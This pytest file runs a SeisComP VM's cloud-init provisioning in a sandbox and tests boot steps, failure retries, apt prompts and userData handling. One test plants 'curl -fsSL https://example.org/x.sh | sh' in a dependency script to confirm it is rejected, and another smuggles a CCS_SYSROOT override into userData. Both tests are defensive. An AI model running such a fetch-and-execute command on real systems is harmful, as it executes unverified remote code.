"""The SeisComP VM's cloud-init, executed: infra/cloud-init/seiscomp.yaml's files and runcmd run
in a sandbox directory with stand-ins (tests/vm_standins.py) for sudo, apt, systemctl, seiscomp,
wg, mount, curl and the metadata endpoint. No root, no network, no real apt.

What it proves: the first boot reaches "seedlink running" without a prompt; a failure injected
into any step leaves that step and the ones after it unmarked, is reported in the health file and
on the serial console, and is retried by the unit's restart and at the next boot, which then
reaches "seedlink running" without redoing what had succeeded; and SeisComP's own
`install-deps base`, as the old cloud-init called it, aborts at apt's prompt.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
import uuid
from pathlib import Path

import pytest

from shared_code import seiscomp as bindings
from shared_code.fields import load_fields

ROOT = Path(__file__).resolve().parent.parent
CLOUD_CONFIG = ROOT / "infra" / "cloud-init" / "seiscomp.yaml"
VM_BICEP = ROOT / "infra" / "modules" / "seiscomp-vm.bicep"
STANDINS = Path(__file__).with_name("vm_standins.py")
FAKE_COMMANDS = "sudo runuser apt apt-get systemctl curl wg mount umount mountpoint nft chown"
# SeisComP/seiscomp src/system/apps/seiscomp/share/deps/ubuntu/24.04/install-base.sh (commit
# fd76121, and the same in tags 7.2.1-7.2.3): the whole file, one line, no -y.
INSTALL_BASE_UBUNTU_2404 = (
    "apt install libxml2 libboost-filesystem1.83.0 libboost-iostreams1.83.0 "
    "libboost-thread1.83.0 libboost-program-options1.83.0 libboost-regex1.83.0 "
    "libboost-system1.83.0 libssl3 libncurses6 libmysqlclient21 libmariadb3 libpq5 "
    "libpython3.12 python3-numpy libboost-container1.83.0 pkexec\n"
)
UBUNTU_2404_OS_RELEASE = 'NAME="Ubuntu"\nVERSION_ID="24.04"\nID=ubuntu\nID_LIKE=debian\n'
SHARE_KEY = "c2hhcmUta2V5LW5ldmVyLWxvZ2dlZA=="
STEPS = [
    "config",
    "firewall",
    "wireguard",
    "share",
    "seiscomp",
    "deps",
    "seedlink",
    "bindings",
    "start",
]
PERSISTENT = {"seiscomp", "deps", "seedlink"}


def read_cloud_config(text: str) -> dict:
    """write_files and runcmd of the cloud-config, read without a YAML library (the test
    environment has none). Strict about the subset the file uses: block-scalar `content: |`
    with the items' keys at 4 spaces and the content at 6, runcmd as flow lists of plain words.
    scripts/check_infra.sh validates the whole file with `cloud-init schema`."""
    lines = text.splitlines()
    files: list[dict[str, str]] = []
    runcmd: list[list[str]] = []
    section = ""
    i = 0
    while i < len(lines):
        line = lines[i]
        i += 1
        if line.startswith("#"):
            continue
        if line and not line.startswith(" "):
            section = line.split(":", 1)[0]
            continue
        if section == "write_files" and line.startswith("  - path: "):
            files.append({"path": line.removeprefix("  - path: ")})
        elif section == "write_files" and line.startswith("    ") and ": " in line:
            key, value = line.strip().split(": ", 1)
            if key == "content":
                assert value == "|", line
                block = []
                while i < len(lines) and (lines[i].startswith("      ") or not lines[i].strip()):
                    block.append(lines[i][6:])
                    i += 1
                while block and not block[-1]:
                    block.pop()
                files[-1]["content"] = "\n".join(block) + "\n"
            else:
                files[-1][key] = value.strip('"')
        elif section == "runcmd" and line.startswith("  - ["):
            items = line.strip().removeprefix("- [").removesuffix("]").split(", ")
            runcmd.append([i[1:-1] if i[:1] == i[-1:] == '"' else i for i in items])
        else:
            assert section not in ("write_files", "runcmd") or not line.strip(), line
    return {"write_files": files, "runcmd": runcmd}


def shellify(commands: list[list[str] | str]) -> str:
    """cloud-init's util.shellify, which turns runcmd into the script it runs: `#!/bin/sh`, one
    line per entry, list items single-quoted, no `set -e`."""
    lines = ["#!/bin/sh"]
    for cmd in commands:
        if isinstance(cmd, list):
            lines.append(" ".join("'" + str(a).replace("'", "'\\''") + "'" for a in cmd))
        else:
            lines.append(cmd)
    return "\n".join(lines) + "\n"


def userdata_keys() -> list[str]:
    """The names the Bicep writes into userData (vmEnvironmentLines)."""
    text = VM_BICEP.read_text()
    block = text[text.index("var vmEnvironmentLines") : text.index("var vmEnvironment =")]
    return re.findall(r"'([A-Z][A-Z0-9_]*)=", block)


def tar_gz(members: dict[str, tuple[bytes, int]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, (data, mode) in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class VM:
    """A sandbox standing in for the VM's file system and the services around it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        root.mkdir(parents=True)
        (root / ".vm-sandbox").touch()
        # What an Ubuntu image has before cloud-init runs, plus the stand-ins and the fake services.
        for d in (
            "fakebin",
            "tmp",
            "dev",
            "proc/sys/kernel/random",
            "run",
            "etc",
            "opt",
            "www",
            "imds",
        ):
            (root / d).mkdir(parents=True, exist_ok=True)
        (root / "dev/console").touch()
        (root / "etc/os-release").write_text(UBUNTU_2404_OS_RELEASE)
        standin = root / "fakebin" / "_standin"
        standin.write_text(f"#!{sys.executable}\n" + STANDINS.read_text())
        standin.chmod(0o755)
        for name in FAKE_COMMANDS.split():
            (root / "fakebin" / name).symlink_to("_standin")
        # Not stand-ins: syslog is not looked at, and the scripts' python3 snippets run on the
        # test's interpreter (a third of the time of the system one here).
        (root / "fakebin/logger").write_text("#!/bin/sh\nexit 0\n")
        (root / "fakebin/logger").chmod(0o755)
        (root / "fakebin/python3").symlink_to(sys.executable)
        self.config = read_cloud_config(CLOUD_CONFIG.read_text())
        self._publish_release()
        self._publish_bindings()
        self.write_userdata()
        (root / "imds/share_key").write_text(SHARE_KEY)

    def _publish_release(self) -> None:
        seiscomp_bin = (f"#!{sys.executable}\n" + STANDINS.read_text()).encode()
        self.release = tar_gz(
            {
                "seiscomp/bin/seiscomp": (seiscomp_bin, 0o755),
                "seiscomp/etc/global.cfg": (b"", 0o644),
                "seiscomp/share/deps/ubuntu/24.04/install-base.sh": (
                    INSTALL_BASE_UBUNTU_2404.encode(),
                    0o644,
                ),
            }
        )
        (self.root / "www/seiscomp-7.3.1-ubuntu24.04-x86_64.tar.gz").write_bytes(self.release)

    def _publish_bindings(self) -> None:
        out = self.root / "tmp/bindings"
        bindings.write(out, bindings.render(load_fields(ROOT / "config" / "fields.toml")))
        members = {
            str(p.relative_to(out)): (p.read_bytes(), 0o644)
            for p in sorted(out.rglob("*"))
            if p.is_file()
        }
        (self.root / "www/bindings.tar.gz").write_bytes(tar_gz(members))
        self.stations = sorted(p.name for p in (out / "etc/key").glob("station_*"))

    def write_userdata(self) -> None:
        values = {
            "CCS_SHARE_ACCOUNT": "stccsshare",
            "CCS_SHARE_NAME": "ccs",
            "CCS_SHARE_HOST": "stccsshare.file.core.windows.net",
            "CCS_MOUNT": str(bindings.DEFAULT_SHARE_MOUNT),
            "CCS_KEYVAULT_URI": "https://kv-ccs.vault.azure.net/",
            "CCS_SHARE_KEY_SECRET": "share-account-key",
            "CCS_BINDINGS_URL": "https://stccspipe.blob.core.windows.net/seiscomp/bindings.tar.gz",
            "CCS_HEALTH_URL": "https://stccspipe.blob.core.windows.net/vmhealth/health.json",
            "SEISCOMP_VERSION": "7.3.1",
            "SEISCOMP_PLATFORM": "ubuntu24.04-x86_64",
            "SEISCOMP_SHA256": hashlib.sha256(self.release).hexdigest(),
            "WG_ADDRESS": "10.99.0.1/24",
            "WG_SUBNET": "10.99.0.0/24",
            "WG_PORT": "51820",
            "WG_PEERS_B64": base64.b64encode(b"cGVlcjE= 10.99.0.2/32").decode(),
            "SEEDLINK_PORT": "18000",
        }
        assert sorted(values) == sorted(userdata_keys()), "userData names differ from the Bicep's"
        lines = ["# CCS-passive SeisComP VM settings", *(f"{k}={v}" for k, v in values.items())]
        # IMDS answers format=text with the userData as stored: base64.
        (self.root / "imds/userData").write_text(
            base64.b64encode("\n".join(lines).encode()).decode()
        )

    # --- running -------------------------------------------------------------------------------

    def env(self) -> dict[str, str]:
        # systemd and cloud-init start services with a clean environment.
        return {
            "PATH": f"{self.root / 'fakebin'}:{self.root / 'usr/local/sbin'}:/usr/bin:/bin",
            "CCS_SYSROOT": str(self.root),
            "TMPDIR": str(self.root / "tmp"),
            "HOME": str(self.root / "root"),
            "LANG": "C.UTF-8",
        }

    def run(self, argv: list[str]) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            argv,
            env=self.env(),
            cwd=self.root,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def _new_boot(self) -> None:
        shutil.rmtree(self.root / "run")
        (self.root / "run").mkdir()
        (self.root / "proc/sys/kernel/random/boot_id").write_text(str(uuid.uuid4()) + "\n")

    def first_boot(self) -> subprocess.CompletedProcess[str]:
        """cloud-init: write_files, then runcmd as one /bin/sh script."""
        self._new_boot()
        for entry in self.config["write_files"]:
            path = self.root / entry["path"].lstrip("/")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(entry["content"])
            path.chmod(int(entry.get("permissions", "0644"), 8))
        script = self.root / "var/lib/cloud/instance/scripts/runcmd"
        script.parent.mkdir(parents=True, exist_ok=True)
        script.write_text(shellify(self.config["runcmd"]))
        return self.run(["sh", str(script)])

    def reboot(self) -> subprocess.CompletedProcess[str]:
        """A new boot: /run is empty, and systemd starts the enabled services of multi-user."""
        self._new_boot()
        enabled = sorted(p.name for p in (self.root / "etc/systemd-standin/enabled").iterdir())
        ours = self.root / "etc/systemd/system"
        services = [
            u
            for u in enabled
            if u.endswith(".service")
            # the distribution's units (nftables, wg-quick@wg0) and ours wanted by multi-user
            and (not (ours / u).exists() or "WantedBy=multi-user.target" in (ours / u).read_text())
        ]
        assert "ccs-provision.service" in services
        return self.run(["systemctl", "start", *services])

    def unit_restart(self) -> subprocess.CompletedProcess[str]:
        """What Restart=on-failure does after the backoff: start the unit again."""
        return self.run(["systemctl", "start", "ccs-provision.service"])

    # --- faults and observations ---------------------------------------------------------------

    def inject(self, cmd: str, *contains: str) -> None:
        (self.root / "faults.json").write_text(json.dumps([{"cmd": cmd, "contains": contains}]))

    def clear_faults(self) -> None:
        (self.root / "faults.json").unlink(missing_ok=True)

    def calls(self, cmd: str | None = None) -> list[dict]:
        path = self.root / "calls.jsonl"
        entries = (
            [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
        )
        return [e for e in entries if cmd is None or e["cmd"] == cmd]

    def health(self) -> dict:
        return json.loads((self.root / "var/lib/ccs/health.json").read_text())

    def console(self) -> str:
        return (self.root / "dev/console").read_text()

    def marked(self) -> set[str]:
        done = set()
        for d in (self.root / "var/lib/ccs/done", self.root / "run/ccs/done"):
            if d.is_dir():
                done |= {p.name for p in d.iterdir() if "." not in p.name}
        return done

    def seedlink_running(self) -> bool:
        return (self.root / "opt/seiscomp/var/standin/running-seedlink").exists()


@pytest.fixture
def vm(tmp_path: Path) -> VM:
    return VM(tmp_path / "vm")


def downloads(vm: VM) -> int:
    return sum("www.seiscomp.de" in " ".join(c["argv"]) for c in vm.calls("curl"))


def apt_installs(vm: VM) -> list[dict]:
    return [c for c in vm.calls() if c["cmd"] in ("apt", "apt-get") and "install" in c["argv"]]


# --- the stand-ins are faithful where it matters -------------------------------------------------


def test_seiscomp_install_deps_aborts_at_apts_prompt_as_the_old_cloud_init_called_it(
    vm: VM,
) -> None:
    """The found bug, reproduced: APT_CONFIG + DEBIAN_FRONTEND around `seiscomp install-deps
    base` do not reach apt through `sudo sh`, and apt reads end-of-file at its prompt."""
    seiscomp_root = vm.root / "opt/seiscomp"
    with tarfile.open(fileobj=io.BytesIO(vm.release)) as tar:
        tar.extractall(vm.root / "opt", filter="data")
    apt_conf = vm.root / "tmp/apt.conf"
    apt_conf.write_text('APT::Get::Assume-Yes "true";\n')
    result = subprocess.run(
        [str(seiscomp_root / "bin/seiscomp"), "install-deps", "base"],
        env={**vm.env(), "APT_CONFIG": str(apt_conf), "DEBIAN_FRONTEND": "noninteractive"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode != 0
    assert "Do you want to continue? [Y/n] Abort." in result.stdout
    (install,) = apt_installs(vm)
    assert install["cmd"] == "apt" and install["env"] == {}  # both variables dropped by sudo
    assert not (vm.root / "var/lib/dpkg-standin/installed").exists()


@pytest.mark.parametrize(
    ("argv", "extra_env", "installs"),
    [
        (["apt-get", "install", "libxml2"], {}, False),
        (["apt-get", "install", "libxml2"], {"DEBIAN_FRONTEND": "noninteractive"}, False),
        (["apt-get", "-q", "-y", "install", "libxml2"], {}, True),
        (["apt-get", "-qy", "install", "libxml2"], {}, True),
        (["apt", "-o", "APT::Get::Assume-Yes=true", "install", "libxml2"], {}, True),
        (["apt", "install", "libxml2"], {"APT_CONFIG": "apt.conf"}, True),
        (["sudo", "apt", "install", "libxml2"], {"APT_CONFIG": "apt.conf"}, False),
        (
            ["sudo", "--preserve-env=APT_CONFIG", "apt", "install", "x"],
            {"APT_CONFIG": "apt.conf"},
            True,
        ),
    ],
)
def test_apt_standin_prompts_unless_told_to_assume_yes(
    vm: VM, argv: list[str], extra_env: dict[str, str], installs: bool
) -> None:
    (vm.root / "apt.conf").write_text('APT::Get::Assume-Yes "true";\n')
    env = {
        **vm.env(),
        **{k: str(vm.root / v) if k == "APT_CONFIG" else v for k, v in extra_env.items()},
    }
    result = subprocess.run(
        argv,
        env=env,
        cwd=vm.root,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (result.returncode == 0) is installs, result.stdout + result.stderr
    assert ("Abort." in result.stdout) is not installs


# --- the boot sequence ---------------------------------------------------------------------------


def test_first_boot_reaches_seedlink_running_without_a_prompt(vm: VM) -> None:
    result = vm.first_boot()
    assert result.returncode == 0, result.stdout + result.stderr
    assert vm.seedlink_running()
    health = vm.health()
    assert health["status"] == "ok" and health["seedlink"] == "running"
    assert health["failed_step"] is None
    assert list(health["steps"]) == STEPS
    assert all(s["state"] == "done" and s["failures"] == 0 for s in health["steps"].values())
    assert vm.marked() == set(STEPS)
    assert "provision ok: SeisComP 7.3.1-ubuntu24.04-x86_64, seedlink running" in vm.console()

    # SeisComP's own package list, installed by apt-get with -y and nothing else.
    (install,) = apt_installs(vm)
    assert install["cmd"] == "apt-get" and "-y" in install["argv"]
    assert install["argv"][-16:] == INSTALL_BASE_UBUNTU_2404.split()[2:]
    assert not any(c["cmd"] == "sudo" for c in vm.calls())
    installed = (vm.root / "var/lib/dpkg-standin/installed").read_text().split()
    assert installed == INSTALL_BASE_UBUNTU_2404.split()[2:]

    # The order the services need: share mounted and SeisComP installed before seedlink starts.
    order = [(c["cmd"], c["argv"]) for c in vm.calls()]
    mount_at = order.index(next(o for o in order if o[0] == "mount"))
    install_at = order.index(("apt-get", install["argv"]))
    start_at = order.index(("seiscomp", ["start"]))
    assert mount_at < start_at and install_at < start_at

    # seedlink is started by seiscomp.service only (a module started from a oneshot unit's
    # script would die with that unit's control group).
    starts = [c["argv"] for c in vm.calls("seiscomp") if c["argv"][0] in ("start", "restart")]
    assert starts == [["start"]]
    assert ["restart", "seiscomp.service"] in [c["argv"] for c in vm.calls("systemctl")]

    # What the steps wrote.
    nft = (vm.root / "etc/nftables.conf").read_text()
    assert 'iifname "wg0" ip saddr 10.99.0.0/24 tcp dport 18000 accept' in nft
    wg0 = (vm.root / "etc/wireguard/wg0.conf").read_text()
    assert "PublicKey = cGVlcjE=" in wg0 and "AllowedIPs = 10.99.0.2/32" in wg0
    pub = (vm.root / "etc/wireguard/wg0.pub").read_text().strip()
    assert f"CCS WireGuard public key: {pub}" in vm.console()
    (mount,) = vm.calls("mount")
    assert "ro,vers=3.1.1,seal," in mount["argv"][-1]
    assert mount["argv"][-3] == str(vm.root / "mounts/ccs")
    creds = (vm.root / "etc/smbcredentials/ccs.cred").read_text()
    assert creds == f"username=stccsshare\npassword={SHARE_KEY}\n"
    keys = sorted(p.name for p in (vm.root / "opt/seiscomp/etc/key").glob("station_*"))
    assert keys == vm.stations
    # No secret on the console or in the health file.
    assert SHARE_KEY not in vm.console() and SHARE_KEY not in json.dumps(health)


def test_nothing_is_marked_done_before_it_succeeded(vm: VM) -> None:
    vm.first_boot()
    # The command that does each step's work, and the marker it must not see yet.
    work = {
        "firewall": ("nft", "-c"),
        "wireguard": ("systemctl", "wg-quick@wg0.service"),
        "share": ("mount", "cifs"),
        "seiscomp": ("curl", "www.seiscomp.de"),
        "deps": ("apt-get", "install"),
        "seedlink": ("seiscomp", "enable"),
        "bindings": ("seiscomp", "update-config"),
        "start": ("seiscomp", "start"),
    }
    for step, (cmd, needle) in work.items():
        calls = [c for c in vm.calls(cmd) if needle in " ".join(c["argv"])]
        assert calls, step
        for call in calls:
            assert not any(m.endswith(f":{step}") for m in call["markers"]), (step, call)


def test_a_reboot_keeps_the_installation_and_redoes_the_boot_steps(vm: VM) -> None:
    vm.first_boot()
    assert downloads(vm) == 1
    result = vm.reboot()
    assert result.returncode == 0, result.stdout + result.stderr
    assert downloads(vm) == 1 and len(apt_installs(vm)) == 1  # installed once
    assert len(vm.calls("mount")) == 2  # /run was cleared: mounted again
    assert vm.seedlink_running() and vm.health()["status"] == "ok"


# A realistic failure for each step: (step, command, substrings of its arguments).
FAILURES = [
    ("config", "curl", ["userData"]),  # IMDS not answering before the first settings
    ("firewall", "nft", ["-c"]),
    ("wireguard", "systemctl", ["restart", "wg-quick@wg0.service"]),
    ("share", "curl", ["vault.azure.net/secrets"]),  # role assignment not yet propagated
    ("seiscomp", "curl", ["www.seiscomp.de"]),
    ("deps", "apt-get", ["install"]),
    ("seedlink", "seiscomp", ["enable"]),
    ("bindings", "curl", ["bindings.tar.gz"]),
    ("start", "seiscomp", ["start"]),
]


@pytest.mark.parametrize(("step", "cmd", "contains"), FAILURES, ids=[f[0] for f in FAILURES])
def test_a_failed_step_is_reported_and_retried_until_seedlink_runs(
    vm: VM, step: str, cmd: str, contains: list[str]
) -> None:
    vm.inject(cmd, *contains)
    first = vm.first_boot()
    assert first.returncode != 0  # cloud-init reports runcmd as failed
    assert f"provision FAILED at step {step}" in first.stdout  # cloud-init-output.log
    before = STEPS[: STEPS.index(step)]
    assert vm.marked() == set(before)
    assert not vm.seedlink_running()
    health = vm.health()
    assert health["status"] == "failed" and health["failed_step"] == step
    assert health["steps"][step]["state"] == "failed"
    assert health["steps"][step]["failures"] == 1
    assert all(health["steps"][s]["state"] == "done" for s in before)
    assert all(health["steps"][s]["state"] == "pending" for s in STEPS[STEPS.index(step) + 1 :])
    assert health["detail"]
    assert f"CCS provision FAILED at step {step} (failure 1)" in vm.console()
    # The unit is enabled, so the next boot runs it, and the failed first run was handed to it.
    assert (vm.root / "etc/systemd-standin/enabled/ccs-provision.service").exists()
    assert vm.calls("systemctl")[-1]["argv"] == ["start", "--no-block", "ccs-provision.service"]

    # systemd's restart while the cause persists: still failing, counted, nothing marked.
    assert vm.unit_restart().returncode != 0
    assert vm.marked() == set(before)
    assert vm.health()["steps"][step]["failures"] == 2

    vm.clear_faults()
    downloads_so_far = downloads(vm)
    result = vm.reboot()
    assert result.returncode == 0, result.stdout + result.stderr
    assert vm.seedlink_running()
    health = vm.health()
    assert health["status"] == "ok" and health["seedlink"] == "running"
    assert health["steps"][step] == {
        "state": "done",
        "at": health["steps"][step]["at"],
        "failures": 0,
    }
    assert vm.marked() == set(STEPS)
    # An installation step that had succeeded is not redone.
    if STEPS.index(step) > STEPS.index("seiscomp"):
        assert downloads(vm) == downloads_so_far


def test_a_dependency_script_that_does_more_than_apt_install_is_not_run(vm: VM) -> None:
    vm.release = tar_gz(
        {
            "seiscomp/bin/seiscomp": ((vm.root / "fakebin/_standin").read_bytes(), 0o755),
            "seiscomp/share/deps/ubuntu/24.04/install-base.sh": (
                (INSTALL_BASE_UBUNTU_2404 + "curl -fsSL https://example.org/x.sh | sh\n").encode(),
                0o644,
            ),
        }
    )
    (vm.root / "www/seiscomp-7.3.1-ubuntu24.04-x86_64.tar.gz").write_bytes(vm.release)
    vm.write_userdata()  # the new archive's SHA-256
    assert vm.first_boot().returncode != 0
    health = vm.health()
    assert health["failed_step"] == "deps"
    assert "unexpected line" in health["detail"] and "example.org" in health["detail"]
    assert not apt_installs(vm)
    assert not any("example.org" in " ".join(c["argv"]) for c in vm.calls("curl"))


def test_the_retry_unit_backs_off_and_never_gives_up() -> None:
    files = {
        e["path"]: e["content"] for e in read_cloud_config(CLOUD_CONFIG.read_text())["write_files"]
    }
    unit = files["/etc/systemd/system/ccs-provision.service"]
    for line in (
        "Restart=on-failure",
        "RestartSteps=6",
        "RestartMaxDelaySec=1h",
        "StartLimitIntervalSec=0",
        "WantedBy=multi-user.target",
    ):
        assert re.search(rf"^{re.escape(line)}$", unit, re.MULTILINE), line
    # seiscomp.service starts only through ccs-provision (after the mount and the install).
    assert not re.search(r"^\[Install\]", files["/etc/systemd/system/seiscomp.service"], re.M)
    runcmd = read_cloud_config(CLOUD_CONFIG.read_text())["runcmd"]
    assert "systemctl start --no-block ccs-provision.service" in runcmd[-1][-1]


def test_userdata_cannot_set_the_sandbox_root(vm: VM) -> None:
    elsewhere = vm.root.parent / "elsewhere"
    userdata = base64.b64decode((vm.root / "imds/userData").read_text()).decode()
    (vm.root / "imds/userData").write_text(
        base64.b64encode(f"{userdata}\nCCS_SYSROOT={elsewhere}\n".encode()).decode()
    )
    assert vm.first_boot().returncode == 0
    assert vm.seedlink_running()
    assert not elsewhere.exists()
